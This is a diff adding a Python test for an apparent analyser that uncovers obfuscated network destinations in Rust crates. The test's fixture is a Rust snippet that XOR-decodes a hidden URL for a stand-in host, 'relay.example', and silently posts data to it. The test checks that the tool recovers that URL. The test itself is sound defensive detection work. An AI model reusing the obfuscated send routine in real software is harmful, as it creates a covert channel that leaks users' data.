@@ -831,3 +831,28 @@ fn port() -> String {
 }
 """
     assert run(source, "port()") == "relay.example:4042"
+
+
+def test_a_decoder_written_inline_in_a_function_with_parameters() -> None:
+    # no function of the crate is called with the constant alone: the `let` is evaluated
+    source = """
+struct Key { k: Vec<u8> }
+impl Key {
+    fn new(k: &[u8]) -> Self { Key { k: k.to_vec() } }
+    fn apply(&self, d: &[u8]) -> Vec<u8> {
+        d.iter().enumerate().map(|(i, b)| b ^ self.k[i % self.k.len()]).collect()
+    }
+}
+const K: [u8; 3] = [7, 42, 99];
+const URL: [u8; 21] = [
+    111, 94, 23, 119, 89, 89, 40, 5, 17, 98, 70, 2, 126, 4, 6, 127, 75, 14, 119, 70, 6,
+];
+fn send(body: &[u8]) {
+    let url = String::from_utf8(Key::new(&K).apply(&URL)).unwrap();
+    let _ = ureq::post(&url).send_bytes(body);
+}
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert [(r.text, r.how) for r in found.revealed] == [
+        ("https://relay.example", "computed by fn send of this crate, run on its constants")
+    ]
